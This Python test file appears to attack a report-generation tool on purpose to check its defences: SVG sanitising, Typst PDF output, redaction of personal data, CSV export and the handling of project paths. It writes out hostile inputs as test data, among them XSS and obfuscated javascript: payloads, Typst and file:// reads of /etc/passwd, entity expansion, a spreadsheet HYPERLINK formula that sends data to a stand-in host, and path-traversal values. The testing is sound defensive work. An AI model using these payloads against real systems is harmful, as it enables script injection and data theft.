"""Adversary 2: attacks on what landed with the Typst PDF route, the trend sections, the
rounds data model and the valence/round import commands.

Every test plants the attack first and checks what comes out. Attacks that got through
and were fixed are plain tests; attacks on modules still being rewritten by others are
``xfail(strict=True)`` with the finding in the reason.
"""

from __future__ import annotations

import io
import json
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest
from conftest import REPO

from copeval.report import doc

ROUNDS = REPO / "data" / "demo-rounds"

#: Text a project file could carry into a figure's labels: none of it is markup once it is
#: a label, so none of it may make the figure be refused.
LABEL_TEXTS = [
    "Sitio once = 11",  # " once=" looked like an event handler
    "Ronda onda=2",
    "javascript: no es un enlace",
    "<script>alert(1)</script>",
    "-- <!-- comment --> --",
]


def _mpl_figure(labels):
    mpl = pytest.importorskip("matplotlib")
    mpl.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(3, 2))
    ax.plot(range(len(labels)), range(len(labels)))
    ax.set_xticks(range(len(labels)), labels)
    ax.set_title(" | ".join(labels))
    return fig


# ------------------------------------------------------------------------ SVG figures
def test_figure_text_never_makes_a_figure_refused():
    """Found: the SVG check searched the markup as text, so a site or round label such as
    "Sitio once = 11" (which matplotlib copies into an SVG comment) was taken for an
    ``onload=`` handler and the whole report section raised ValueError. Now the SVG is
    parsed: labels are data."""
    fig = doc.Figure.from_matplotlib(_mpl_figure(LABEL_TEXTS), alt="a")
    html = doc.to_html(fig)
    assert html.startswith('<figure class="cv-figure"><img src="data:image/svg+xml;base64,')
    from copeval.report.typst_markup import to_typst

    assert to_typst(fig).startswith("#cv-figure(image(bytes(")


SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


@pytest.mark.parametrize(
    "svg",
    [
        # a script in a namespace prefix (the old regex wanted "<script")
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg">'
        "<s:script>alert(1)</s:script></svg>",
        SVG_HEAD + "><svg:foreignObject xmlns:svg='http://www.w3.org/2000/svg'/></svg>",
        # a javascript: URL spelt with character references and a tab
        SVG_HEAD + '><a xlink:href="java&#115;cr&#x09;ipt:alert(1)"><rect/></a></svg>',
        SVG_HEAD + "><a href='JaVaScRiPt&#58;alert(1)'><rect/></a></svg>",
        # an event handler after a line break and without quotes around the name
        SVG_HEAD + '\nonload\n=\n"alert(1)"></svg>',
        # CSS loading something
        SVG_HEAD + "><style>@import 'https://example.invalid/x.css';</style></svg>",
        SVG_HEAD + '><rect style="fill: url( &quot;https://example.invalid/p&quot; )"/></svg>',
        SVG_HEAD + '><rect fill="url(file:///etc/passwd)"/></svg>',
        # entity expansion
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        + SVG_HEAD
        + "><text>&b;</text></svg>",
        # an embedded document
        SVG_HEAD + '><iframe src="https://example.invalid"/></svg>',
        # not well-formed: a browser and Typst would each read it their own way
        SVG_HEAD + "><rect",
    ],
)
def test_svg_bypasses_are_refused_by_both_backends(svg):
    from copeval.report.typst_markup import to_typst

    fig = doc.Figure(alt="x", svg=svg)
    with pytest.raises(ValueError, match="Figure SVG"):
        doc.to_html(fig)
    with pytest.raises(ValueError, match="Figure SVG"):
        to_typst(fig)


def test_svg_with_internal_references_is_kept():
    """What matplotlib writes (clip paths, ``url(#id)``, ``xlink:href="#id"``) passes."""
    svg = (
        SVG_HEAD + '><defs><clipPath id="p1"><rect width="1" height="1"/></clipPath>'
        '<path id="m" d="M0 0"/></defs><g clip-path="url(#p1)" style="fill: url(#p1)">'
        '<use xlink:href="#m"/></g></svg>'
    )
    assert doc.svg_problem(svg) is None


# ------------------------------------------------------------------- Typst: one cell, one crash
def _pdf_text(*blocks) -> tuple[str, int]:
    pypdf = pytest.importorskip("pypdf")
    pytest.importorskip("typst")
    from copeval.report.pdf import compile_pdf, template
    from copeval.report.typst_markup import to_typst

    pdf = compile_pdf(template() + to_typst(doc.Section(*blocks)))
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    return "\n".join(p.extract_text() for p in reader.pages), len(reader.pages)


BANDS = ["b0", "b1", "b2", "b3", "b4"]


@pytest.mark.parametrize(
    "block",
    [
        doc.Forest([doc.ForestRow("inf", float("inf"), 1, 2, "v")], bands=BANDS, ticks=[(0, "0")]),
        doc.Forest(
            [doc.ForestRow("-inf", 2, float("-inf"), float("inf"), "v")],
            bands=BANDS,
            ticks=[(float("inf"), "t")],
        ),
        doc.Forest([doc.ForestRow("huge", 1e308, -1e308, 1e308, "v")], bands=BANDS, ticks=[]),
        doc.Table(["a", "b"], [["1", "2"]], widths=[float("nan"), 0.5]),
        doc.Table(["a", "b"], [["1", "2"]], widths=[float("inf"), 0.5]),
        doc.Table(["a", "b"], [["1", "2"]], widths=[-3, 0]),
    ],
    ids=["score-inf", "interval-inf", "huge", "width-nan", "width-inf", "width-negative"],
)
def test_non_finite_numbers_never_stop_the_pdf(block):
    """Found: ``inf`` in a forest row or tick, and a NaN/inf column width, were written as
    ``inf`` / ``nanfr`` -- not Typst -- and the whole PDF failed on one number."""
    text, pages = _pdf_text(doc.Heading(2, "Numbers", "numbers"), block)
    assert pages == 1 and "Numbers" in text


@pytest.mark.parametrize("glue", ["\u00a0", "\u202f", "\u2007"])
def test_words_glued_by_no_break_spaces_still_wrap(glue):
    """Found: 400 words joined by no-break spaces are one unbreakable word to Typst, but
    Python's ``\\s`` saw short words, so the line ran 3,000 characters off the page."""
    long = glue.join(["palabra"] * 400)
    text, _ = _pdf_text(doc.Para(long), doc.Table(["a", "b"], [[glue.join(["celda"] * 120), "2"]]))
    lines = text.splitlines()
    assert max(len(line) for line in lines) < 130
    assert sum(line.count("palabra") for line in lines) == 400


def test_ten_thousand_character_word_and_number_wrap():
    text, pages = _pdf_text(doc.Para("W" * 10_000), doc.Para("9" * 10_000))
    assert max(len(line) for line in text.splitlines()) < 130
    assert text.replace("\n", "").count("W") == 10_000 and pages >= 2


# ------------------------------------------------------------------ trend sections, hostile labels
HOSTILE_LABEL = (
    '#read("/etc/passwd") ]] <script>alert(1)</script> " onload="x" {site} {0} '
    "Sitio once = 11 llame al +502 5555 1234 o escriba a ana@example.org"
)
HOSTILE_SITE = '<img src=x onerror=alert(1)> #import "@preview/x:0.1.0" $x$ ana@example.org'


@pytest.fixture(scope="module")
def hostile_rounds(tmp_path_factory):
    if not (ROUNDS / "datapackage.json").is_file():
        pytest.skip("data/demo-rounds is not there")
    from copeval.report.data import ReportData

    project = tmp_path_factory.mktemp("adv2") / "rounds"
    shutil.copytree(ROUNDS, project)
    desc = json.loads((project / "datapackage.json").read_text(encoding="utf-8"))
    for r in desc["copeval"]["rounds"]:
        r["label_es"] = f"{r['id']} {HOSTILE_LABEL}"
        r["label_en"] = f"{r['id']} {HOSTILE_LABEL}"
    (project / "datapackage.json").write_text(json.dumps(desc), encoding="utf-8")
    sites = pd.read_csv(project / "sites.csv", dtype=str, keep_default_na=False)
    sites.loc[sites["site_id"] == "VC", "name"] = HOSTILE_SITE
    sites.to_csv(project / "sites.csv", index=False)
    return ReportData.load(project, n_boot=60, complete=False, memo=False)


def _parsed_html(html: str) -> tuple[set, list]:
    """(tag names, (attribute, value) pairs) of an HTML fragment, as a browser parses it."""
    from html.parser import HTMLParser

    tags, attrs = set(), []

    class P(HTMLParser):
        def handle_starttag(self, tag, a):
            tags.add(tag)
            attrs.extend((k, v or "") for k, v in a)

    P().feed(html)
    return tags, attrs


def _sections(data, lang):
    from copeval.report import trend

    view = data.for_readers(lang)
    ci = "90%" if lang == "en" else "90 %"
    return [
        trend.change_section(view, "VC", lang, ci_text=ci),
        trend.trend_lines(view, "VC", lang),
        trend.change_grid(view, ["VC", "TOT"], lang),
    ]


@pytest.mark.parametrize("lang", ["es", "en"])
def test_trend_sections_with_hostile_round_labels_and_site_names(hostile_rounds, lang):
    """Round labels and a site name carrying Typst code, HTML, format fields, bidi
    controls, a phone number and an e-mail: the sections render, the HTML holds no live
    tag or attribute, the PDF compiles and prints the code as text, the personal data is
    redacted in both."""
    sections = _sections(hostile_rounds, lang)
    assert all(sections), "every section has content"
    html = "".join(s.html() for s in sections)
    tags, attrs = _parsed_html(html)
    assert "script" not in tags
    assert not [a for a in attrs if a[0].startswith("on")]
    assert all(v.startswith("data:image/") for k, v in attrs if k == "src")
    assert "5555 1234" not in html and "ana@example.org" not in html
    text, _ = _pdf_text(
        doc.DocInfo(title="t", lang=lang), *[b for s in sections for b in s.blocks]
    )
    flat = re.sub(r"\s+", "", text)
    assert re.sub(r"\s+", "", '#read("/etc/passwd")') in flat
    assert "root:x:0" not in text and "5555" not in text and "ana@example.org" not in text
    assert "\u202e" not in text


# ------------------------------------------------------------------ personal data, new columns
PHONE, EMAIL = "5555 1234", "ana.lopez@example.org"
PII = f"llame al +502 {PHONE} o escriba a {EMAIL}"


@pytest.fixture
def rounds_with_pii(tmp_path):
    """demo-rounds with a phone number and an e-mail in the new free-text places: a
    ``site_rounds.csv`` note and its ``_es``/``_en`` variants, a segment's ``text_en``
    and ``text_es``, the title and description variants, and a round label."""
    if not (ROUNDS / "datapackage.json").is_file():
        pytest.skip("data/demo-rounds is not there")
    project = tmp_path / "rounds"
    shutil.copytree(ROUNDS, project)
    pd.DataFrame(
        {
            "site_id": ["VC"],
            "round": ["2025"],
            "notes": [f"nota {PII}"],
            "notes_es": [f"nota es {PII}"],
            "notes_en": [f"note en {PII}"],
            "police_source": [f"fuente {PII}"],
        }
    ).to_csv(project / "site_rounds.csv", index=False)
    seg = pd.read_csv(project / "segments.csv", dtype=str, keep_default_na=False)
    seg.loc[0, "text_en"] = f"translation {PII}"
    seg["text_es"] = ""
    seg.loc[1, "text_es"] = f"traducción {PII}"
    seg.to_csv(project / "segments.csv", index=False)
    desc = json.loads((project / "datapackage.json").read_text(encoding="utf-8"))
    desc["copeval"]["title_es"] = f"Título {PII}"
    desc["copeval"]["title_en"] = f"Title {PII}"
    desc["copeval"]["rounds"][1]["label_en"] = f"Follow-up {PII}"
    desc["description_es"] = f"Descripción {PII}"
    (project / "datapackage.json").write_text(json.dumps(desc), encoding="utf-8")
    return project


def _leaks(value) -> bool:
    text = json.dumps(value, default=str, ensure_ascii=False)
    return PHONE in text or EMAIL in text


def test_readers_view_redacts_site_rounds_and_translations(rounds_with_pii):
    """Found: ``ReportData.for_readers`` redacted ``sites.csv`` but returned the project's
    ``site_rounds.csv`` and the segments' ``text_en``/``text_es`` as written, so
    ``view.project.site_text(site, "notes", lang, round=...)`` -- the round's note a report
    prints -- and a quoted translation carried the phone number and e-mail."""
    from copeval.project import load_project
    from copeval.report.data import ReportData

    raw = load_project(rounds_with_pii)
    assert _leaks(raw.site_text("VC", "notes", "es", round="2025"))  # planted
    data = ReportData.load(rounds_with_pii, n_boot=30, complete=False, memo=False)
    for lang in ("es", "en"):
        view = data.for_readers(lang).project
        for col in ("notes", "police_source"):
            assert not _leaks(view.site_text("VC", col, lang, round="2025")), (lang, col)
        assert not _leaks(view.site_context("VC", "2025")), lang
        assert not _leaks(view.site_rounds.to_dict("records")), lang
        assert not _leaks(view.segments.to_dict("records")), lang
        assert not _leaks(view.title(lang)) and not _leaks(view.meta), lang
        assert not _leaks([view.round_label(r, lang) for r in view.round_ids]), lang
    # the analysis itself is untouched
    assert _leaks(data.project.site_rounds.to_dict("records"))


def test_validate_finds_personal_data_in_the_new_free_text_places(rounds_with_pii):
    """Found: ``copeval validate``'s scan of free-text fields (privacy.scan_fields_pii)
    skipped ``site_rounds.csv``, the ``title_es``/``title_en`` and ``description_es``
    variants and the round labels of ``datapackage.json``."""
    from copeval import privacy
    from copeval.project import load_project

    found = privacy.scan_fields_pii(load_project(rounds_with_pii))
    where = {(f, c) for f, c in zip(found["file"], found["column"], strict=True)}
    for col in ("notes", "notes_es", "notes_en", "police_source"):
        assert ("site_rounds.csv", col) in where, col
    assert ("segments.csv", "text_en") in where and ("segments.csv", "text_es") in where
    for key in ("copeval.title_es", "copeval.title_en", "description_es"):
        assert ("datapackage.json", key) in where, key
    assert ("datapackage.json", "copeval.rounds[2].label_en") in where
    assert not _leaks(found.to_dict("records"))  # never the data itself


# ---------------------------------------------------------------------- valence sheet round trip
def _sheet_rows(path):
    import csv

    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def _write_sheet(path, rows, *, encoding="utf-8", newline="\n"):
    import csv

    with path.open("w", encoding=encoding, newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]), lineterminator=newline)
        w.writeheader()
        w.writerows(rows)


@pytest.mark.parametrize("name", ["segments.csv", "datapackage.json", "sites.csv", "texts/x.txt"])
def test_valence_export_never_overwrites_the_project(tiny_project, tmp_path, capsys, name):
    """Found: ``copeval valence export P --out P/segments.csv --force`` replaced the
    project's segments with the rating sheet (and ``--all`` wrote every text into it); the
    project no longer loaded. The same through a symbolic link."""
    from copeval.cli import main

    before = {p: p.read_bytes() for p in tiny_project.rglob("*") if p.is_file()}
    target = tiny_project / name
    args = ["valence", "export", str(tiny_project), "--all", "--force", "--out"]
    assert main([*args, str(target)]) == 1
    assert "is a file of the project" in capsys.readouterr().err
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    assert main([*args, str(link)]) == 1
    assert {p: p.read_bytes() for p in tiny_project.rglob("*") if p.is_file()} == before
    # a new sheet inside the project folder is fine
    assert (
        main(["valence", "export", str(tiny_project), "--out", str(tiny_project / "r.csv")]) == 0
    )


def test_a_million_row_sheet_gives_a_short_message(tiny_project, tmp_path, capsys):
    """Found: every problem was listed, so a sheet of unknown or repeated IDs printed one
    line per row (16 MB of error for 200,000 rows). Now the first 30 and a count."""
    from copeval.cli import main

    sheet = tmp_path / "big.csv"
    with sheet.open("w", encoding="utf-8") as fh:
        fh.write("segment_id,valence\n")
        fh.writelines("G1,1\n" if i % 2 else f"X{i},1\n" for i in range(1_000_000))
    before = (tiny_project / "segments.csv").read_bytes()
    assert main(["valence", "import", str(tiny_project), str(sheet)]) == 1
    err = capsys.readouterr().err
    assert len(err) < 10_000 and "1000000 problem(s)" in err and "999970 more" in err
    assert (tiny_project / "segments.csv").read_bytes() == before


@pytest.mark.parametrize(
    "encoding, newline", [("utf-8-sig", "\r\n"), ("utf-8", "\r\n"), ("utf-8-sig", "\n")]
)
def test_sheet_with_bom_and_crlf_imports(tiny_project, tmp_path, encoding, newline):
    from copeval.cli import main
    from copeval.project import load_project

    sheet = tmp_path / "r.csv"
    _write_sheet(
        sheet, [{"segment_id": "G1", "valence": "-1"}], encoding=encoding, newline=newline
    )
    assert main(["valence", "import", str(tiny_project), str(sheet), "--overwrite"]) == 0
    assert load_project(tiny_project).segments.set_index("segment_id").loc["G1", "valence"] == -1


def test_non_utf8_sheet_is_one_readable_error(tiny_project, tmp_path, capsys):
    from copeval.cli import main

    sheet = tmp_path / "r.csv"
    sheet.write_bytes("segment_id,valence\nG1,1\nG2,año\n".encode("latin-1"))
    before = (tiny_project / "segments.csv").read_bytes()
    assert main(["valence", "import", str(tiny_project), str(sheet)]) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err and "r.csv" in err and "UTF-8" in err
    assert (tiny_project / "segments.csv").read_bytes() == before


def test_formula_text_is_neutralised_in_the_sheet(tiny_project, tmp_path):
    """Segment text is shown as text, never run as a formula, whatever it starts with."""
    from copeval.cli import main

    src = pd.read_csv(tiny_project / "sources.csv", dtype=str, keep_default_na=False)
    seg = pd.read_csv(tiny_project / "segments.csv", dtype=str, keep_default_na=False)
    path = tiny_project / src.set_index("source_id").loc[seg.loc[0, "source_id"], "text_path"]
    text = path.read_text(encoding="utf-8")
    start = int(seg.loc[0, "start"])
    evil = '=HYPERLINK("http://x.invalid/?"&A1)'
    end = start + len(evil)
    path.write_text(text[:start] + evil + text[end:], encoding="utf-8")
    sheet = tmp_path / "r.csv"
    assert main(["valence", "export", str(tiny_project), "--all", "--out", str(sheet)]) in (0, 1)
    rows = _sheet_rows(sheet) if sheet.exists() else []
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "@", "\t", "\r")), value
            assert not (value.startswith(("+", "-")) and not re.fullmatch(r"[+-]\d", value))


def test_segment_ids_starting_with_an_apostrophe_keep_their_rating(tiny_project, tmp_path):
    """Found: the import takes off one leading apostrophe (the one a formula-safe export
    adds), so a segment whose ID itself starts with one ("'G2") came back as "G2" -- and
    its rating went to another segment of that name. The export now doubles it."""
    from copeval.cli import main
    from copeval.project import load_project

    segs = pd.read_csv(tiny_project / "segments.csv", dtype=str, keep_default_na=False)
    extra = segs.iloc[[1]].assign(segment_id="'G2", valence="")
    segs = pd.concat([segs, extra], ignore_index=True)
    segs.loc[1, "valence"] = ""
    segs.to_csv(tiny_project / "segments.csv", index=False)
    sheet = tmp_path / "r.csv"
    assert main(["valence", "export", str(tiny_project), "--out", str(sheet)]) == 0
    rows = _sheet_rows(sheet)
    for row in rows:
        row["valence"] = (
            "-2"
            if row["segment_id"].lstrip("'") == "G2" and row["segment_id"].startswith("'")
            else "1"
        )
    _write_sheet(sheet, rows)
    assert main(["valence", "import", str(tiny_project), str(sheet)]) == 0
    val = load_project(tiny_project).segments.set_index("segment_id")["valence"]
    assert val["'G2"] == -2 and val["G2"] == 1


# --------------------------------------------------------------------------- import --round
@pytest.mark.parametrize(
    "rnd", ["\x1b[2J\x1b[31mowned", "../../etc", "a/b", "x" * 5000, "2025\u202e", ""]
)
def test_import_round_message_is_one_safe_line(tmp_path, capsys, rnd):
    """Found: ``--round`` was echoed raw in the error, so an escape sequence reached the
    terminal (and the suggested JSON was not JSON for a round with a quote). A round must
    be declared in datapackage.json, so path separators and ``..`` never reach a path."""
    from copeval.cli import main

    data = REPO / "tests" / "data" / "interop"
    nvivo = data / "cases_variables.qdpx"
    if not nvivo.is_file():
        pytest.skip("tests/data/interop is not there")
    target = tmp_path / "q"
    if not (ROUNDS / "datapackage.json").is_file():
        pytest.skip("data/demo-rounds is not there")
    shutil.copytree(ROUNDS, target)
    before = {p: p.read_bytes() for p in target.rglob("*") if p.is_file()}
    assert main(["import", str(nvivo), "--into", str(target), "--round", rnd]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\u202e" not in err and "Traceback" not in err
    assert len(err) < 2000 and err.count("\n") == 1
    assert {p: p.read_bytes() for p in target.rglob("*") if p.is_file()} == before


# ------------------------------------------------------------------ project files, find_project
@pytest.mark.parametrize("name", ["sites.csv", "registry.csv", "datapackage.json"])
def test_project_files_linked_out_of_the_project_are_refused(tiny_project, tmp_path, name):
    """Found: texts and survey files that a symbolic link takes out of the project were
    refused, but the project's own tables and descriptor were read through one: a shared
    project (a zip keeps links) with ``sites.csv -> ~/elsewhere/sites.csv`` read a file of
    the person running it into the report."""
    from copeval.project import load_project, validate_project

    outside = tmp_path / "elsewhere" / name
    outside.parent.mkdir()
    src = tiny_project / name
    if src.exists():
        shutil.move(src, outside)
    else:  # registry.csv: a file of people's names
        outside.write_text("person_id,name,role\nP1,Ana Lopez,leader\n", encoding="utf-8")
    src.symlink_to(outside)
    errors = [p for p in validate_project(tiny_project) if p.severity == "error"]
    assert any(p.file == name and "outside the project" in p.message for p in errors), errors
    with pytest.raises(Exception, match="outside the project"):
        load_project(tiny_project)


def test_a_link_inside_the_project_is_still_read(tiny_project):
    from copeval.project import load_project

    (tiny_project / "tables").mkdir()
    shutil.move(tiny_project / "sites.csv", tiny_project / "tables" / "sites.csv")
    (tiny_project / "sites.csv").symlink_to(tiny_project / "tables" / "sites.csv")
    assert len(load_project(tiny_project).sites)


def _planted_checkout(base):
    """A folder that looks like a copeval checkout, with a project at data/demo."""
    (base / "copeval").mkdir(parents=True)
    (base / "work").mkdir()
    (base / "data" / "demo").mkdir(parents=True)
    (base / "data" / "demo" / "planted").write_text("x", encoding="utf-8")
    (base / "pyproject.toml").write_text('[project]\nname = "copeval"\n', encoding="utf-8")
    return base


def test_find_project_ignores_a_checkout_planted_in_a_shared_parent(tmp_path, monkeypatch):
    """Found: a ``pyproject.toml`` naming copeval and a ``data/demo`` planted in a folder
    every user can write (``/tmp``-like) above the working directory was taken for the
    checkout, and a notebook's ``data/demo`` loaded the planted project."""
    from copeval.resources import find_project

    shared = _planted_checkout(tmp_path / "shared")
    monkeypatch.chdir(shared / "work")
    assert find_project("data/demo") == shared / "data" / "demo"  # the user's own: as before
    shared.chmod(0o777)  # writable by everyone, no sticky bit
    try:
        found = find_project("data/demo")
    finally:
        shared.chmod(0o755)
    assert not (found / "planted").exists()
    (shared / "pyproject.toml").chmod(0o666)
    try:
        assert not (find_project("data/demo") / "planted").exists()
    finally:
        (shared / "pyproject.toml").chmod(0o644)


def test_find_project_never_climbs_out_of_a_checkout(tmp_path, monkeypatch):
    """Found: ``../secret`` was also looked up relative to the checkout's root, so from
    ``notebooks/`` it named a folder beside the checkout. Now a path with ``..`` is relative
    to the working directory only."""
    from copeval.errors import CopevalError
    from copeval.resources import find_project

    checkout = _planted_checkout(tmp_path / "co")
    (checkout / "notebooks").mkdir()
    (tmp_path / "secret").mkdir()
    monkeypatch.chdir(checkout / "notebooks")
    with pytest.raises(CopevalError, match="not found"):
        find_project("../secret")
    assert find_project("../data/demo") == Path("../data/demo")  # exists from notebooks/
    assert find_project("data/demo") == checkout / "data" / "demo"


# ------------------------------------------------------------- redaction vs invisible characters
@pytest.mark.parametrize(
    "glue",
    [
        "\x00",
        "\x01",
        "\x08",
        "\x1b",
        "\x1f",
        "\x7f",
        "\x80",
        "\x9f",
        "\u034f",
        "\ufe0f",
        "\U000e0100",
        "\u3164",
        "\ud800",
    ],
    ids=lambda c: f"U+{ord(c):04X}",
)
def test_invisible_characters_inside_a_phone_or_email_do_not_defeat_redaction(glue):
    """Found: a control character (C0, DEL, C1), a combining grapheme joiner, a variation
    selector, a Hangul filler or a lone surrogate inside a phone number or an e-mail (an
    interview text may hold them: only table cells refuse controls) hid it from redaction;
    the PDF backend then removes the control characters and printed "55551234" whole, and
    the others are invisible anyway."""
    from copeval import privacy
    from copeval.report.typst_markup import clean_text

    text = f"llame al 5555{glue}1234 o a ana{glue}@example.org, gracias"
    redacted, found = privacy.redact(text)
    shown = clean_text(redacted)
    digits = re.sub(r"\D", "", shown)
    assert "55551234" not in digits and "example.org" not in shown, repr(shown)
    assert shown.startswith("llame al [PHONE]") and shown.endswith(", gracias")
    assert set(found["kind"]) == {"phone", "email"}


def test_valence_sheet_never_holds_a_consent_none_text(tmp_path):
    """Found: ``copeval valence export --all`` wrote the text of every segment, also of
    sources with consent ``none`` ("kept for the record, excluded from every output")."""
    from copeval.cli import main
    from copeval.project import load_project

    demo = REPO / "data" / "demo"
    if not (demo / "datapackage.json").is_file():
        pytest.skip("data/demo is not there")
    project = load_project(demo)
    none = set(project.sources.loc[project.sources["consent"] == "none", "source_id"])
    assert none  # planted in the demo: TOT-I07
    texts = [
        project.segment_text(s)
        for s in project.segments.loc[project.segments["source_id"].isin(none), "segment_id"]
    ]
    sheet = tmp_path / "all.csv"
    assert main(["valence", "export", str(demo), "--all", "--out", str(sheet)]) == 0
    body = sheet.read_text(encoding="utf-8-sig")
    assert texts and not any(t in body for t in texts)
    assert not any(sid in body for sid in none)


# ------------------------------------------------------------- report file names
def test_two_sites_never_share_a_report_file(tmp_path):
    from conftest import tiny_tables

    from copeval.project import write_project
    from copeval.report.batch import plan_jobs

    tables = tiny_tables()
    names = {"A": "Villa Nueva", "B": "Villa-Nueva"}
    for key in ("sites", "sources"):
        tables[key]["site_id"] = tables[key]["site_id"].map(lambda v: names.get(v, v))
    for df in tables["responses"].values():
        if "site_id" in df:
            df["site_id"] = df["site_id"].map(lambda v: names.get(v, v))
    root = write_project(tmp_path / "p", **tables, meta={"title": "T"})
    jobs = plan_jobs(
        root, out_dir=tmp_path / "out", langs=["es"], formats=["html"], cache_dir=tmp_path / "c"
    )
    stems = [j.stem.lower() for j in jobs]
    assert len(stems) == len(set(stems)), stems


def test_site_ids_differing_only_in_case_are_refused_before_anything_is_written(tmp_path):
    """On a case-insensitive disk (macOS, Windows) site_vc_es.pdf and site_VC_es.pdf are one
    file: the plan stops with a message naming both IDs."""
    from conftest import tiny_tables

    from copeval.errors import CopevalError
    from copeval.project import write_project
    from copeval.report.batch import plan_jobs

    tables = tiny_tables()
    names = {"A": "vc", "B": "VC"}
    for key in ("sites", "sources"):
        tables[key]["site_id"] = tables[key]["site_id"].map(lambda v: names.get(v, v))
    for df in tables["responses"].values():
        if "site_id" in df:
            df["site_id"] = df["site_id"].map(lambda v: names.get(v, v))
    root = write_project(tmp_path / "p", **tables, meta={"title": "T"})
    with pytest.raises(CopevalError, match=r"'vc' and 'VC'|'VC' and 'vc'"):
        plan_jobs(
            root,
            out_dir=tmp_path / "out",
            langs=["es"],
            formats=["html"],
            cache_dir=tmp_path / "c",
        )
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())
